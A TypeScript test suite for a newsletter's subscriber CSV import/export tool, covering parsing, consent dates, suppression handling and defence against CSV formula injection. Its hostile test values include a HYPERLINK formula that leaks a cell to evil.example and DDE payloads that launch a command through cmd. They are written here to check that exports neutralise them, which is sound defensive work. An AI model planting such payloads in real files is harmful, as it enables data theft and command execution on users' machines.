import { parse as parseIndependently } from 'csv-parse/sync';
import { stringify as stringifyIndependently } from 'csv-stringify/sync';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { systemClock } from '../../src/adapters/clock.ts';
import { DynamoTable } from '../../src/adapters/dynamo-table.ts';
import { SesMailer } from '../../src/adapters/ses-mailer.ts';
import { runSubscribersCommand } from '../../src/cli/subscribers.ts';
import { loadConfig } from '../../src/config.ts';
import { createLogger } from '../../src/log.ts';
import { CsvError, formatCsv, neutraliseCell, parseCsv, restoreCell } from '../../src/subscribers/csv.ts';
import type { SubscriberDeps } from '../../src/subscribers/flows.ts';
import { parseConsentDate } from '../../src/subscribers/import-export.ts';
import { SubscriberStore } from '../../src/subscribers/store.ts';
import { subscriberId } from '../../src/subscribers/tokens.ts';
import { useEmulators } from '../helpers/emulators.ts';

const SECRET = 'csv-test-secret-0123456789-abcdefghijklm';
/** What makes Excel, LibreOffice and Google Sheets read a cell as a formula (OWASP, CSV injection). */
const FORMULA_START = /^[=+\-@\t\r]/;
const NOW = new Date('2026-06-10T08:00:00Z');

/** csv-parse (RFC 4180, as spreadsheets read it): an independent reading of the files this project writes. */
function independentCsv(text: string): string[][] {
  return parseIndependently(text, { bom: true, relax_column_count: true }) as string[][];
}

describe('CSV', () => {
  const field = fc.string({
    unit: fc.constantFrom('a', 'b', ' ', ',', '"', '\r', '\n', '\r\n', 'é', ';', '='),
    maxLength: 12,
  });
  const rows = fc.array(fc.array(field, { minLength: 2, maxLength: 5 }), { minLength: 1, maxLength: 6 });

  it('reads back exactly what it writes', () => {
    fc.assert(
      fc.property(rows, (data) => {
        expect(parseCsv(formatCsv(data)).map((r) => r.fields)).toEqual(data);
      }),
    );
  });

  it('writes what an independent CSV reader reads the same way', () => {
    fc.assert(
      fc.property(rows, (data) => {
        expect(independentCsv(formatCsv(data))).toEqual(data);
      }),
      { numRuns: 100 },
    );
  });

  it('reads what an independent CSV writer writes, with a byte order mark and LF line ends too', () => {
    const written = stringifyIndependently(
      [
        ['email', 'source'],
        ['a@example.org', 'x, "y"\nz'],
      ],
      { record_delimiter: 'unix' },
    );
    expect(parseCsv(`\uFEFF${written}`).map((r) => r.fields)).toEqual([
      ['email', 'source'],
      ['a@example.org', 'x, "y"\nz'],
    ]);
  });

  it('neutralises every cell a spreadsheet would run as a formula, and gives each value back exactly', () => {
    const risky = fc.string({ unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', 'a', ' '), maxLength: 6 });
    fc.assert(
      fc.property(risky, (value) => {
        expect(neutraliseCell(value)).not.toMatch(FORMULA_START);
        expect(restoreCell(neutraliseCell(value))).toBe(value);
      }),
    );
    expect(neutraliseCell('=HYPERLINK("https://evil.example","x")')).toBe('\'=HYPERLINK("https://evil.example","x")');
    // A quote that leads ordinary text is the value's own and stays as it is, both ways.
    expect(neutraliseCell("'tis")).toBe("'tis");
    expect(restoreCell("'tis")).toBe("'tis");
  });

  it('names the line of broken quoting', () => {
    expect(() => parseCsv('email\r\nab"c@example.org\r\n')).toThrow(
      new CsvError('a quote inside an unquoted field; quote the whole field and double the quote', 2),
    );
    expect(() => parseCsv('email,source\n"a@example.org"x,y\n')).toThrow(/line 2: text after a closing quote/);
    expect(() => parseCsv('email\n"a@example.org\n\n')).toThrow(/line 2: a quoted field is never closed/);
  });

  it('reads consent dates as ISO 8601 dates or times and refuses impossible ones', () => {
    expect(parseConsentDate('2026-02-28')).toBe('2026-02-28T00:00:00.000Z');
    expect(parseConsentDate('2026-02-28T10:30:00+02:00')).toBe('2026-02-28T08:30:00.000Z');
    expect(parseConsentDate('2026-02-28 10:30')).toBe('2026-02-28T10:30:00.000Z');
    for (const bad of ['2026-02-30', '2026-13-01', '28/02/2026', '2026-02-28T25:00:00Z', 'yesterday', ''])
      expect(parseConsentDate(bad)).toBeUndefined();
  });
});

describe('broadsheet subscribers import/export', () => {
  const tables = ['subscribers', 'copy', 'merge', 'hostile', 'hostile-copy'];
  const emulators = useEmulators({ tables: tables.map((tableName) => ({ tableName, partitionKey: 'id' })) });
  let dir: string;
  const depsFor = (tableName: string): SubscriberDeps => ({
    subscribers: new DynamoTable(emulators.dynamo, { tableName, partitionKey: 'id' }),
    mailer: new SesMailer(emulators.ses),
    config: loadConfig(),
    tokenSecret: SECRET,
    clock: { now: () => NOW, sleep: async () => {} },
    log: createLogger({}, () => {}),
    softBounceThreshold: 3,
  });

  async function run(tableName: string, ...args: string[]) {
    let stdout = '';
    let stderr = '';
    const status = await runSubscribersCommand(args, {
      ...depsFor(tableName),
      stdout: (t) => void (stdout += t),
      stderr: (t) => void (stderr += t),
    });
    return { status, stdout, stderr };
  }

  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'broadsheet-subscribers-'));
  });

  afterAll(async () => {
    if (dir) await rm(dir, { recursive: true, force: true });
  });

  const file = async (name: string, text: string) => {
    const path = join(dir, name);
    await writeFile(path, text, 'utf8');
    return path;
  };

  it('imports the good rows, and reports every bad row by number and reason', async () => {
    const csv = [
      '\uFEFFEmail,Topics,consent_at,source,status,name',
      'Consented@Example.org,markets; ports,2026-01-15,newsletter-2025,,Ann', // 2: confirmed (consent given)
      'no-consent@example.org,,,,,Bo', // 3: pending
      'not-an-address,,,,,Cy', // 4
      'consented@example.org,,2026-01-16,,,Ann again', // 5: duplicate of 2
      'bad-date@example.org,,2026-02-30,,,Di', // 6
      'bad-status@example.org,,2026-01-15,,active,Ed', // 7
      'claims@example.org,,,,confirmed,Flo', // 8: confirmed without consent
      'short@example.org,,', // 9: too few fields
      '"quoted,comma@example.org",,,,,Gil', // 10: comma in address
      'left@example.org,,2025-05-01,"crm, ""legacy"" export",unsubscribed,"Hal\nJr"', // 11
      'future@example.org,,2027-01-01,,,Ivy', // 13 (row 11 spans two lines, rows count records)
      'bad-topic@example.org,<script>,,,,Jo', // 13
      '',
    ].join('\r\n');
    const path = await file('list.csv', csv);
    const rejects = join(dir, 'rejects.csv');
    const result = await run('subscribers', 'import', path, '--rejects', rejects);

    expect(result.status).toBe(1);
    expect(result.stdout).toContain(
      '12 rows, 3 created, 0 updated, 0 unchanged, 0 kept suppressed, 0 kept unsubscribed, 9 rejected.',
    );
    expect(result.stdout).toContain('Ignored columns: name.');
    expect(result.stdout).toContain('1 subscribers are pending');
    const reported = [...result.stderr.matchAll(/row (\d+): (.*)/g)].map(([, row, reason]) => [Number(row), reason]);
    expect(reported).toEqual([
      [4, 'invalid email: the address must contain exactly one @'],
      [5, 'duplicate of row 2'],
      [6, 'consent_at "2026-02-30" is not a date (YYYY-MM-DD or an ISO 8601 time)'],
      [7, 'unknown status "active" (use pending, confirmed, unsubscribed, suppressed)'],
      [8, 'status confirmed needs a consent_at date'],
      [9, 'has 3 fields; the header has 6'],
      [10, 'invalid email: the part before the @ is not a valid mailbox name'],
      [12, 'consent_at 2027-01-01 is in the future'],
      [13, 'topic "<script>" is not allowed (letters, digits, spaces, _ . -; at most 64)'],
    ]);
    expect(result.stderr).not.toMatch(/[^\s@]+@[^\s@]+\.[a-z]/);

    const rejected = independentCsv(await readFile(rejects, 'utf8'));
    expect(rejected[0]).toEqual(['row', 'reason', 'email', 'topics', 'consent_at', 'source', 'status', 'name']);
    expect(rejected.slice(1).map((r) => [r[0], r[2]])).toContainEqual(['10', 'quoted,comma@example.org']);

    const store = new SubscriberStore(depsFor('subscribers').subscribers, SECRET, systemClock);
    expect(await store.getByAddress('consented@example.org')).toMatchObject({
      status: 'confirmed',
      topics: ['markets', 'ports'],
      consentAt: '2026-01-15T00:00:00.000Z',
      consentSource: 'newsletter-2025',
    });
    expect(await store.getByAddress('no-consent@example.org')).toMatchObject({
      status: 'pending',
      consentSource: 'import:list.csv',
      topics: [],
    });
    expect(await store.getByAddress('left@example.org')).toMatchObject({
      status: 'unsubscribed',
      consentSource: 'crm, "legacy" export',
    });
    for (const address of ['bad-date@example.org', 'claims@example.org', 'future@example.org'])
      expect(await store.getByAddress(address)).toBeUndefined();
  });

  it('mails pending rows a confirmation link only when asked to', async () => {
    await emulators.clearMail();
    const path = await file('pending.csv', 'email\nwaiting-1@example.org\nwaiting-2@example.org\n');
    expect((await run('subscribers', 'import', path, '--source', 'fair-2026')).status).toBe(0);
    expect(await emulators.sentMail()).toEqual([]);
    const sent = await run('subscribers', 'import', path, '--send-confirmations');
    expect(sent.stdout).toContain('Sent 2 confirmation emails.');
    const mail = await emulators.sentMail();
    expect(mail.map((m) => m.destination.to[0]).sort()).toEqual(['waiting-1@example.org', 'waiting-2@example.org']);
    expect(mail[0]!.body.text).toMatch(/\/confirm\?token=confirm\./);
    const store = new SubscriberStore(depsFor('subscribers').subscribers, SECRET, systemClock);
    expect(await store.getByAddress('waiting-1@example.org')).toMatchObject({
      status: 'pending',
      consentSource: 'import:fair-2026',
    });
  });

  it('never lifts a suppression or an unsubscription from a file without later consent', async () => {
    const deps = depsFor('merge');
    const store = new SubscriberStore(deps.subscribers, SECRET, systemClock);
    await store.subscribe({ address: 'complained@example.org', consentSource: 'web-form', topics: [] }, NOW);
    await store.suppress(subscriberId(SECRET, 'complained@example.org'), 'complaint', NOW);
    await store.subscribe({ address: 'opted-out@example.org', consentSource: 'web-form', topics: [] }, NOW);
    await store.unsubscribe(subscriberId(SECRET, 'opted-out@example.org'), NOW);
    await store.subscribe(
      { address: 'back-again@example.org', consentSource: 'web-form', topics: [] },
      new Date('2026-01-01T00:00:00Z'),
    );
    await store.unsubscribe(subscriberId(SECRET, 'back-again@example.org'), new Date('2026-01-01T00:00:00Z'));
    const path = await file(
      'merge.csv',
      'email,consent_at,status\ncomplained@example.org,2026-06-01,confirmed\nopted-out@example.org,2026-01-01,\nback-again@example.org,2026-03-01,\n',
    );
    const result = await run('merge', 'import', path);
    expect(result.stdout).toContain(
      '0 created, 1 updated, 0 unchanged, 1 kept suppressed, 1 kept unsubscribed, 0 rejected',
    );
    expect((await store.getByAddress('complained@example.org'))?.status).toBe('suppressed');
    expect((await store.getByAddress('opted-out@example.org'))?.status).toBe('unsubscribed');
    expect((await store.getByAddress('back-again@example.org'))?.status).toBe('confirmed');
  });

  it('exports valid CSV that re-imports into an empty table as the same export, without suppression reasons', async () => {
    const store = new SubscriberStore(depsFor('subscribers').subscribers, SECRET, systemClock);
    await store.subscribe(
      { address: 'bounced@example.org', consentSource: 'web-form:2026-06-04-harbour-talks', topics: ['ports'] },
      NOW,
    );
    await store.suppress(subscriberId(SECRET, 'bounced@example.org'), 'bounce:General', NOW);
    await store.subscribe(
      { address: 'web@example.org', consentSource: 'web-form:2026-06-04-harbour-talks', topics: ['Märkte', 'ports'] },
      NOW,
    );
    await store.confirm(subscriberId(SECRET, 'web@example.org'), NOW);

    const first = await run('subscribers', 'export');
    expect(first.status).toBe(0);
    const parsed = independentCsv(first.stdout);
    expect(parsed[0]).toEqual(['email', 'status', 'topics', 'cadence', 'consent_at', 'source']);
    expect(parsed.slice(1).map((r) => r[0])).toEqual([...parsed.slice(1).map((r) => r[0]!)].sort());
    expect(parsed).toContainEqual([
      'bounced@example.org',
      'suppressed',
      'ports',
      'each',
      '',
      'web-form:2026-06-04-harbour-talks',
    ]);
    expect(parsed).toContainEqual([
      'web@example.org',
      'confirmed',
      'Märkte;ports',
      'each',
      NOW.toISOString(),
      'web-form:2026-06-04-harbour-talks',
    ]);
    expect(parsed).toContainEqual([
      'left@example.org',
      'unsubscribed',
      '',
      'each',
      '2025-05-01T00:00:00.000Z',
      'crm, "legacy" export',
    ]);
    expect(first.stdout).not.toContain('bounce:General');

    const out = join(dir, 'export.csv');
    expect((await run('subscribers', 'export', '--out', out)).status).toBe(0);
    expect(await readFile(out, 'utf8')).toBe(first.stdout);
    const imported = await run('copy', 'import', out);
    expect(imported.status).toBe(0);
    expect((await run('copy', 'export')).stdout).toBe(first.stdout);
    // And a second import of the same file changes nothing.
    expect((await run('copy', 'import', out)).stdout).toContain(`0 created, 0 updated, ${parsed.length - 1} unchanged`);
  });

  it('exports hostile addresses, topics and sources as text a spreadsheet will not run, and re-imports them as they were', async () => {
    const store = new SubscriberStore(depsFor('hostile').subscribers, SECRET, systemClock);
    const hostile = [
      {
        address: '=1+2@example.org',
        topics: ['ports', 'ports-2'],
        consentSource: '=HYPERLINK("https://evil.example/?d="&A1,"open")',
      },
      { address: '+cmd@example.org', topics: ['ports'], consentSource: "@SUM(1+1)*cmd|' /C calc'!A0" },
      { address: '-x@example.org', topics: [], consentSource: '-1+1' },
      { address: "'=already@example.org", topics: [], consentSource: "'@quoted" },
    ];
    for (const request of hostile) await store.subscribe(request, NOW);

    const exported = await run('hostile', 'export');
    const cells = independentCsv(exported.stdout).flat();
    expect(cells.filter((cell) => FORMULA_START.test(cell))).toEqual([]);
    expect(cells).toContain("'=1+2@example.org");
    expect(cells).toContain("'-1+1");

    const out = await file('hostile.csv', exported.stdout);
    const imported = await run('hostile-copy', 'import', out);
    expect(imported.stderr).toBe('');
    expect(imported.status).toBe(0);
    const copy = new SubscriberStore(depsFor('hostile-copy').subscribers, SECRET, systemClock);
    for (const { address, topics, consentSource } of hostile) {
      expect(await copy.getByAddress(address), address).toMatchObject({ email: address, topics, consentSource });
    }
    expect((await run('hostile-copy', 'export')).stdout).toBe(exported.stdout);
  });

  it('neutralises formulas in the rejected-rows report, which still reads back to the rows as they were', async () => {
    const rows = ['email,source', "=cmd|' /C calc'!A0,ok", 'not-an-address,@SUM(A1:A9)', '"+1-2",-1', ''].join('\r\n');
    const rejects = join(dir, 'hostile-rejects.csv');
    expect((await run('hostile', 'import', await file('hostile-rows.csv', rows), '--rejects', rejects)).status).toBe(1);
    const report = independentCsv(await readFile(rejects, 'utf8'));
    expect(report.flat().filter((cell) => FORMULA_START.test(cell))).toEqual([]);
    expect(report.slice(1).map((r) => r.slice(2).map(restoreCell))).toEqual([
      ["=cmd|' /C calc'!A0", 'ok'],
      ['not-an-address', '@SUM(A1:A9)'],
      ['+1-2', '-1'],
    ]);
  });

  it('refuses unusable files and command lines with exit status 2', async () => {
    const noEmail = await file('no-email.csv', 'address\na@example.org\n');
    const broken = await file('broken.csv', 'email\n"a@example.org\n');
    expect(await run('subscribers', 'import', noEmail)).toMatchObject({
      status: 2,
      stderr: expect.stringContaining('no "email" column'),
    });
    expect(await run('subscribers', 'import', broken)).toMatchObject({
      status: 2,
      stderr: expect.stringContaining('line 2: a quoted field is never closed'),
    });
    expect((await run('subscribers', 'import', join(dir, 'missing.csv'))).status).toBe(2);
    expect((await run('subscribers', 'import')).status).toBe(2);
    expect((await run('subscribers', 'frobnicate')).status).toBe(2);
    expect((await run('subscribers', 'export', '--bogus')).status).toBe(2);
  });
});
